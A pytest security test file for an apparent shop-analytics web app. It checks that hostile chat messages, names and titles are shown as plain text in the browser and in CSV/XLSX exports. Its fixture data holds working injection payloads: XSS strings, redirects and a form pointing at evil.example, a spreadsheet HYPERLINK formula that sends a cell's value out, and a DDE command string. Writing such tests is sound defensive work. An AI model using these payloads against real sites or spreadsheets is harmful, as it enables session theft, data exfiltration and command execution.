"""Chats, names and titles that would run, restyle, redirect or overflow a page: they are shown."""

from __future__ import annotations

import csv
import io
import socket
import threading
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import openpyxl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import uvicorn
from playwright.sync_api import Browser, Dialog, Page, Request

from jinpai.store.accounts import add_user
from jinpai.store.logins import start_session
from jinpai.web.app import create_app
from jinpai.web.security import COOKIE
from jinpai.workspace import Workspace, init

BUYER = "b'\"><img src=x onerror=alert(1)>"
AGENT = "店:<script>alert(2)</script>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
MEGABYTE = "好" * 333_000 + "末尾"
TEXTS = [
    "<script>alert(document.cookie)</script>",
    "<img src=http://evil.example/a.png onerror=alert(3)>",
    '"><svg onload=alert(4)>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x.css>",
    "<iframe src=javascript:alert(5)></iframe><base href=//evil.example/>",
    "<form action=http://evil.example><input name=csrf></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "{{ 7*7 }} ${7*7} <%= 7*7 %> {% raw %}",
    "</p></div></main></body></html>",
    "javascript:alert(6) data:text/html,<script>alert(7)</script>",
    "\u202egnp.exe\u202c \u2066\u200f\u0000\u0007\u001b[31m 一二",
    FORMULA,
    "+cmd|' /C calc'!A0",
    "z̸̢̧̛̤̰͉" * 200,
    MEGABYTE,
]
WATCH = """
window.jpViolations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.jpViolations.push(event.violatedDirective + " " + event.blockedURI));
"""


@dataclass
class Seen:
    """What a page did besides showing itself."""

    dialogs: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


def hostile_shop(root: Path) -> Workspace:
    """A shop whose people are called, write and sell what nobody should."""
    made = init(root, shop_id="s1", name="店", platform="taobao")
    start = 1_772_416_800  # 2026-03-02 10:00 in Shanghai
    rows = [
        {
            "message_id": f"m{number}",
            "conversation_id": "c1",
            "buyer_id": BUYER,
            "agent_id": AGENT,
            "sent_at": (start + 20 * number) * 1_000_000,
            "sender": "agent" if number % 2 else "buyer",
            "text": text,
            "product_id": "p1" if number == 0 else None,
        }
        for number, text in enumerate(TEXTS)
    ]
    given = root / "given"
    given.mkdir()
    table = pa.Table.from_pylist(rows)
    times = table["sent_at"].cast(pa.timestamp("us", "UTC"))
    place = table.schema.get_field_index("sent_at")
    pq.write_table(table.set_column(place, "sent_at", times), given / "messages.parquet")
    files = {
        "orders.csv": [
            ["order_id", "buyer_id", "created_at", "paid_at", "paid_amount", "note"],
            ["1001", BUYER, "2026-03-02 10:02:00", "2026-03-02 10:03:00", "8.00", TEXTS[0]],
        ],
        "products.csv": [["product_id", "title"], ["p1", TEXTS[1]]],
        "agents.csv": [["agent_id", "name", "team"], [AGENT, FORMULA, TEXTS[3]]],
    }
    for name, lines in files.items():
        with open(given / name, "w", encoding="utf-8", newline="") as file:
            csv.writer(file).writerows(lines)
    made.import_files([given])
    made.run()
    return made


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, str]]:
    """Serve the shop; yields its address and an owner's cookie."""
    app = create_app(hostile_shop(tmp_path_factory.mktemp("hostile") / "shop").root)
    with app.state.store.write() as session:
        cookie = start_session(session, add_user(session, "boss", role="owner", actor="tests"))
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    listening.listen()  # who asks before the server does waits, and is not refused
    config = uvicorn.Config(app, log_level="warning", lifespan="on", timeout_graceful_shutdown=10)
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listening]})
    thread.start()
    yield f"http://127.0.0.1:{listening.getsockname()[1]}", cookie
    server.should_exit = True
    thread.join()


def test_nothing_runs_and_nothing_is_fetched(chromium: Browser, hostile: tuple[str, str]) -> None:
    base, cookie = hostile
    context = chromium.new_context(viewport={"width": 1366, "height": 768})
    context.add_cookies([{"name": COOKIE, "value": cookie, "url": base}])
    context.add_init_script(WATCH)
    page, seen = context.new_page(), Seen()
    _watch(page, seen, base)
    talk = f"/conversations/{quote(BUYER, safe='')}?agent={quote(AGENT, safe='')}&day=2026-03-02"
    agent = quote(AGENT, safe="")
    paths = ["/overview", "/team", "/conversations", talk, f"/agents/{agent}", "/orders/1001"]
    paths += [f"/metrics/sales_amount?agent={agent}", f"/conversations?buyer={quote(TEXTS[2])}"]
    paths += [f"/team?team={quote(TEXTS[3])}&from={quote(TEXTS[0])}", f"/nowhere/{quote(TEXTS[1])}"]
    for path in paths:
        page.goto(base + path, wait_until="networkidle")
        assert page.evaluate("window.jpViolations") == [], path
        assert page.evaluate("location.origin") == base, path
        assert page.locator("iframe, object, embed, base, main style").count() == 0, path
    assert (seen.dialogs, seen.foreign, seen.errors) == ([], [], [])
    page.goto(base + talk)
    shown = page.locator(".jp-bubble p").all_inner_texts()
    assert TEXTS[0] in shown
    assert any(text.endswith("末尾") for text in shown)
    width = page.evaluate("[document.documentElement.scrollWidth, window.innerWidth]")
    assert width[0] <= width[1]
    context.close()


def _watch(page: Page, seen: Seen, base: str) -> None:
    def asked(request: Request) -> None:
        if not request.url.startswith((base, "data:")):
            seen.foreign.append(request.url)

    def told(dialog: Dialog) -> None:
        seen.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", told)
    page.on("request", asked)
    page.on("pageerror", lambda error: seen.errors.append(str(error)))


def test_files_hold_no_formula(hostile: tuple[str, str]) -> None:
    base, cookie = hostile

    def sent(form: str) -> bytes:
        address = f"{base}/team?format={form}&table=team"
        asked = urllib.request.Request(address, headers={"cookie": f"{COOKIE}={cookie}"})  # noqa: S310
        with urllib.request.urlopen(asked) as answer:  # noqa: S310 - our own server
            return bytes(answer.read())

    rows = list(csv.reader(io.StringIO(sent("csv").decode("utf-8-sig"))))
    assert any(FORMULA in cell for row in rows for cell in row)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
    sheet = openpyxl.load_workbook(io.BytesIO(sent("xlsx"))).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == FORMULA for cell in cells)
    assert all(cell.data_type != "f" for cell in cells)
